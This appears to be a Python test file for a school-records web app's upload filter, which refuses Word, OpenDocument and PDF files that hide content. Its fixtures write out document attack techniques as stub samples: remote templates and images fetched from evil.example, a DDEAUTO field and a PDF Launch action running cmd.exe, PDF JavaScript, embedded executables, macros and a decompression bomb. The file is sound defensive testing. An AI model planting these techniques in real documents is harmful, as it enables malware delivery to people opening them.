"""Documents that bring along more than they show: refused with the reason, and nothing of them is kept."""

import io
import time
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from docx.shared import Inches
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from peps.files.file_kinds import NotTaken, told_apart
from peps.files.hidden_contents import MOST_UNPACKED
from peps.models import Attachment
from tests.factories import open_plan
from tests.signed_in import signed_in

pytestmark = pytest.mark.django_db
RELATIONSHIP = '<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.example/{kind}" Target="{target}" {mode}/></Relationships>'
OUTSIDE = 'TargetMode="External"'


@pytest.fixture(autouse=True)
def storage(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def word(**parts: str | bytes) -> bytes:
    """A real Word document, with parts added or written over."""
    paper = Document()
    paper.add_paragraph("Autumn report")
    picture = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(picture, "PNG")
    paper.add_picture(picture, width=Inches(1))
    out, made = io.BytesIO(), io.BytesIO()
    paper.save(out)
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def linked(kind: str, target: str, mode: str = OUTSIDE) -> str:
    return RELATIONSHIP.format(kind=kind, target=target, mode=mode)


def field(code: str) -> str:
    return f'<w:document xmlns:w="w"><w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r></w:document>'


def open_text(**parts: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        for name, content in ({"content.xml": "<office:text/>"} | parts).items():
            made.writestr(name, content)
    return out.getvalue()


def pdf(change=lambda made: None, **saved) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        made.save(out, **saved)
    return out.getvalue()


def script(made):
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def script_of_a_page(made):
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def script_of_a_field(made):
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("1"))))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def form_of_another_kind(made):
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


def file_inside(made):
    made.attachments["payload.exe"] = b"MZ"


def bomb(size: int) -> bytes:
    return word(**{"word/media/image9.bmp": b"\0" * size})


HIDING = {
    "template from outside": (word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", "http://evil.example/t.dotm")}), "template"),
    "template, spelt otherwise": (
        word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", "//evil", "TargetMode = '&#69;xternal'")}), "template",
    ),
    "template in wide letters": (
        word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", "http://evil.example").encode("utf-16")}), "template",
    ),
    "picture from outside": (word(**{"word/_rels/document.xml.rels": linked("image", "http://evil.example/p.png")}), "another place"),
    "field that fetches": (word(**{"word/document.xml": field("DDEAUTO c:\\\\cmd.exe")}), "another place"),
    "embedded object": (word(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "another file is embedded"),
    "embedded sheet": (word(**{"word/_rels/document.xml.rels": linked("package", "a.xlsx", "")}), "another file is embedded"),
    "web page inside": (word(**{"word/_rels/document.xml.rels": linked("aFChunk", "a.mht", "")}), "another file is embedded"),
    "macro": (word(**{"word/vbaProject.bin": b"x"}), "macro"),
    "macro by another name": (word(**{"[Content_Types].xml": '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'}), "macro"),
    "control": (word(**{"word/activeX/activeX1.xml": "<x/>"}), "macro"),
    "too large unpacked": (bomb(MOST_UNPACKED + 1), "unpacks to more than 50 MB"),
    "OpenDocument with a macro": (open_text(**{"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
    "OpenDocument with an event": (open_text(**{"content.xml": "<script:event-listener/>"}), "macro"),
    "OpenDocument with an object": (open_text(**{"Object 1/content.xml": "<x/>"}), "another file is embedded"),
    "OpenDocument that fetches": (open_text(**{"content.xml": '<draw:image xlink:href="http://evil.example/p"/>'}), "another place"),
    "PDF with a script": (pdf(script), "script"),
    "PDF with a hidden script": (pdf(script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "script"),
    "PDF whose page runs a program": (pdf(script_of_a_page), "script"),
    "PDF with a script in a field": (pdf(script_of_a_field), "script"),
    "PDF with a form of another kind": (pdf(form_of_another_kind), "script"),
    "PDF with a file inside": (pdf(file_inside), "another file is embedded"),
    "PDF that is broken and has a script": (b"%PDF-1.7\n1 0 obj\n<</S/JavaScript/JS(app.alert)>>\nendobj\n%%EOF", "script"),
    "PDF with a password": (pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "password"),
}  # fmt: skip


@pytest.mark.parametrize("what", HIDING)
def test_what_hides_something_is_refused_with_the_reason(what):
    content, why = HIDING[what]

    with pytest.raises(NotTaken) as refusal:
        told_apart(content)

    assert why in str(refusal.value)


def test_the_form_says_why_and_nothing_is_kept(cast):
    pep = open_plan(cast.child)
    content, _ = HIDING["template from outside"]
    typed = {
        "kind": "REPORT",
        "title": "Report",
        "audiences": ["SCHOOL"],
        "file": SimpleUploadedFile("a.docx", content),
    }
    response = signed_in(cast.teacher).post(reverse("peps:attach", args=[pep.reference, "learning"]), typed)

    assert response.status_code == 422
    assert "it fetches something from another place when it is opened" in response.content.decode()
    assert not Attachment.objects.exists()
    assert default_storage.listdir("")[0] in ([], ["attachments"])


def link_and_first_view(made):
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
    link.A = Dictionary(S=Name.URI, URI=String("https://www.gov.uk"))
    made.pages[0].Annots = Array([link])


@pytest.mark.parametrize(
    "content",
    [
        word(),
        word(**{"word/_rels/footer1.xml.rels": linked("hyperlink", "https://www.gov.uk")}),
        word(**{"word/document.xml": field('HYPERLINK "https://www.gov.uk"')}),
        open_text(),
        pdf(),
        pdf(link_and_first_view),
    ],
    ids=["Word", "Word with a link", "Word with a link as a field", "OpenDocument", "PDF", "PDF with a link"],
)
def test_ordinary_documents_are_taken_as_they_are(content):
    assert told_apart(content)[1] == content


def flat_png(width: int, height: int) -> bytes:
    """Of any size in a few bytes: one colour."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4) + kind + content + zlib.crc32(kind + content).to_bytes(4)

    header = width.to_bytes(4) + height.to_bytes(4) + bytes([1, 0, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def test_dots_are_counted_before_anything_is_decoded():
    before = time.process_time()
    with pytest.raises(NotTaken, match="more than 16 million dots"):
        told_apart(flat_png(7000, 7000))

    assert time.process_time() - before < 0.3


def test_a_large_photograph_is_made_smaller_while_it_is_read():
    out = io.BytesIO()
    Image.new("L", (6000, 5000), 90).save(out, "JPEG")

    with Image.open(io.BytesIO(told_apart(out.getvalue())[1])) as kept:
        assert (kept.format, kept.size) == ("JPEG", (3000, 2500))


def test_a_text_is_sent_with_its_letters(cast):
    pep = open_plan(cast.child)
    text = "Größe, café, ਪੰਜਾਬੀ".encode()
    typed = {"kind": "REPORT", "title": "Report", "audiences": ["SCHOOL"], "file": SimpleUploadedFile("a.txt", text)}
    client = signed_in(cast.teacher)
    client.post(reverse("peps:attach", args=[pep.reference, "learning"]), typed)
    kept = Attachment.objects.get()
    response = client.get(reverse("peps:attachment", args=[pep.reference, "learning", kept.reference]))

    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content == text
